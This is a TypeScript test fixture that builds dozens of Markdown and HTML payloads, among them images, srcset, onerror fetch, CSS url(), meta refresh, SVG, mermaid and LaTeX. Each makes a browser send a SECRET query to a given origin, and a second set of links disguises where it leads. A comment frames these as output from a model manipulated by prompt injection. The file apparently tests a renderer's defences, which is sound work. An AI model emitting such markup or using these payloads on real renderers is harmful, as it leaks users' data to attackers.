/**
 * What a model that was talked into it might write so that a browser sends `SECRET` to `origin`: every way that
 * Markdown and HTML know to load or lead to an address.
 */
export function exfiltrationPayloads(origin: string): Readonly<Record<string, string>> {
  const { host } = new URL(origin);
  const at = (name: string) => `${origin}/${name}?q=SECRET`;
  return {
    image: `![a picture](${at('image')})`,
    'image with a title': `![a picture](${at('image-title')} "title")`,
    'image in angle brackets': `![a picture](<${at('image-angle')}>)`,
    'image by reference': `![a picture][pic]\n\n[pic]: ${at('image-reference')}`,
    'image by shortcut': `![shortcut]\n\n[shortcut]: ${at('image-shortcut')}`,
    'image without a scheme': `![a picture](//${host}/image-no-scheme?q=SECRET)`,
    'image with backslashes': `![a picture](/\\${host}/image-backslash?q=SECRET)`,
    'image with an entity': `![a picture](${at('image-entity').replace(':', '&#58;')})`,
    'image in a link': `[![a picture](${at('image-in-link')})](${at('link-of-image')})`,
    'image in a table': `| a | b |\n| --- | --- |\n| ![x](${at('image-in-table')}) | y |`,
    'image in a list': `- [ ] ![x](${at('image-in-list')})`,
    'image in a footnote': `See[^1].\n\n[^1]: ![x](${at('image-in-footnote')})`,
    'svg as data': `![x](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('svg-data')}"/></svg>`)})`,
    'html image': `<img src="${at('html-image')}" alt="x">`,
    'html image, unquoted': `<IMG SRC=${at('html-image-unquoted')}>`,
    'html image, srcset': `<img srcset="${at('html-srcset')} 1x" src="/images/mugs.svg">`,
    'html picture': `<picture><source srcset="${at('html-source')}"><img src="/images/mugs.svg"></picture>`,
    'html image, onerror': `<img src="x" onerror="fetch('${at('html-onerror')}')">`,
    'html image, lowsrc': `<img lowsrc="${at('html-lowsrc')}" longdesc="${at('html-longdesc')}">`,
    'html background': `<table background="${at('html-table')}"><tr><td background="${at('html-td')}">x</td></tr></table>`,
    'html body': `<body background="${at('html-body')}">x</body>`,
    'html input': `<input type="image" src="${at('html-input')}">`,
    'html video': `<video src="${at('html-video')}" poster="${at('html-poster')}" autoplay></video>`,
    'html audio': `<audio src="${at('html-audio')}" autoplay></audio>`,
    'html track': `<video><track default src="${at('html-track')}"></video>`,
    'html object': `<object data="${at('html-object')}"></object><embed src="${at('html-embed')}">`,
    'html frame': `<iframe src="${at('html-iframe')}" srcdoc="<img src='${at('html-srcdoc')}'>"></iframe>`,
    'html style': `<style>@import "${at('css-import')}"; body { background: url(${at('css-body')}) }</style>`,
    'html style attribute': `<div style="background-image:url('${at('css-style')}')">x</div>`,
    'html link': `<link rel="stylesheet" href="${at('html-stylesheet')}"><link rel="prefetch" href="${at('html-prefetch')}">`,
    'html preconnect': `<link rel="preconnect" href="${origin}"><link rel="dns-prefetch" href="${origin}">`,
    'html script': `<script src="${at('html-script')}"></script><script>fetch('${at('html-fetch')}')</script>`,
    'html meta': `<meta http-equiv="refresh" content="0;url=${at('html-meta')}">`,
    'html base': `<base href="${origin}/base/"> ![x](image-by-base.png)`,
    'html form': `<form action="${at('html-form')}"><button autofocus formaction="${at('html-button')}">x</button></form>`,
    'html ping': `<a href="/preview" ping="${at('html-ping')}">x</a>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('svg-image')}" xlink:href="${at('svg-xlink')}"/><use href="${at('svg-use')}"/><feImage href="${at('svg-feimage')}"/></svg>`,
    'svg style': `<svg><style>*{background:url(${at('svg-style')})}</style><rect fill="url(${at('svg-fill')})"/></svg>`,
    mathml: `<math><mtext><img src="${at('mathml')}"></mtext></math>`,
    'unclosed image': `![a picture](${at('image-unclosed')}`,
    'unclosed html': `<img src="${at('html-unclosed')}`,
    mermaid: `\`\`\`mermaid\ngraph TD; A["<img src='${at('mermaid')}'>"] --> B; click B "${at('mermaid-click')}"\n\`\`\``,
    math: `$$\\includegraphics{${at('math')}}$$ $\\href{${at('math-href')}}{x}$`,
    'html in code': `\`\`\`html\n<img src="${at('code')}">\n\`\`\``,
  };
}

/** Links: none of them loads anything, and none may open without a question. */
export function foreignLinks(origin: string): Readonly<Record<string, string>> {
  const { host } = new URL(origin);
  const at = (name: string) => `${origin}/${name}?q=SECRET`;
  return {
    link: `[the report](${at('link')})`,
    'link that names another site': `[https://good.example](${at('link-lying')})`,
    'link by reference': `[the report][ref]\n\n[ref]: ${at('link-reference')}`,
    'link in angle brackets': `<${at('link-angle')}>`,
    'bare link': `See ${at('link-bare')} for more.`,
    'link without a scheme': `[the report](//${host}/link-no-scheme?q=SECRET)`,
    'html link': `<a href="${at('link-html')}" target="_top">the report</a>`,
  };
}
